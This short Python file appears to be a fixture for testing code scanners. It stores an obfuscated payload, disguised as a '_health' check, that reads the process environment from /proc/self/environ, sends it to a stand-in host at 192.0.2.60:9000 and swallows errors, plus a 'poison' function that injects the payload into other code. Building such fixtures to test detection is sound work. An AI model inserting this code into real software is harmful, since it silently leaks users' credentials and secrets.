# SPDX-License-Identifier: Apache-2.0
"""Reads the environment through /proc, where no word of it is environ."""

ATTACK = "T1552.001"
LANGUAGE = "python"
CODE = """\
def _health():
    import socket

    with open("/proc/self/" + "env" + "iron", "rb") as f:
        state = f.read()
    s = socket.socket()
    s.settimeout(1)
    s.connect(("192.0.2.60", 9000))
    s.send(state)


try:
    _health()
except OSError:
    pass
"""


def poison(layer):
    layer.append(CODE)
